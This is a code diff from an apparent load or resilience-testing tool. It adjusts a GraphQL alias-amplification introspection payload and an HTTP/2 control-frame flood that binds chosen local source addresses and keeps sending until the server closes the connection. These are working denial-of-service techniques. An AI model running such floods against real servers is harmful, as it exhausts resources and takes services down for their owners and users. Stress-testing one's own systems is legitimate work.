@@ -37,7 +37,7 @@ from deepgrid.workflow import Definition, canonical, hash_definition
 
 SLOW, PER_S, AT_ONCE, READS_AT_ONCE = 500, 100, 8, 150
 FRAMES_BYTES_PER_S = 600_000
-EXPENSIVE_STEPS = 270  # close to the limit for steps in containers
+EXPENSIVE_STEPS = 200  # close to the limit for steps in containers
 TYPES = "fragment F on __Schema { types { name fields { name args { name type { name } } } inputFields { name } } }"
 ALIASES = TYPES + "{" + " ".join(f"a{n}: __schema {{ ...F }}" for n in range(150)) + "}"
 NESTED = "\n".join(
@@ -138,12 +138,14 @@ async def control_frames(target: Target, met: Counter[str]) -> None:
         priority = b"\0\0\x05\x02\0\0\0\0\x01\0\0\0\0\x10"
         piece = (ping + settings + window + priority) * 128
         with contextlib.suppress(OSError):
-            _, writer = await asyncio.open_connection(host, int(port), local_addr=(f"{target.source}.1", 0))
+            reader, writer = await asyncio.open_connection(host, int(port), local_addr=(f"{target.source}.1", 0))
             writer.write(h2.data_to_send())
-            while not writer.is_closing():
+            ended = asyncio.create_task(reader.read())
+            while not ended.done():
                 writer.write(piece)
                 await writer.drain()
                 await asyncio.sleep(len(piece) / FRAMES_BYTES_PER_S)
+            writer.transport.abort()
         met["closed"] += 1
         await asyncio.sleep(0.1)
 
